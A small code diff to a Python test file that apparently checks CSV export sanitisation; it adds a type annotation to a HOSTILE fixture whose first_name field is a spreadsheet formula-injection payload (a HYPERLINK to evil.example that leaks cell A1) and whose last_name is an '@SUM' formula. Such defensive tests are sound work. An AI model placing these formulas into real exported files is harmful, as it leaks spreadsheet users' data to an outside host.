@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+from typing import Any
 
 from httpx import AsyncClient
 
 from app.core.csvout import safe_cell
 from tests.fixtures.factories import World
 
-HOSTILE = {
+HOSTILE: dict[str, Any] = {
     "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     "last_name": "@SUM(1+1)",
     "mobile": "0722 123 456",
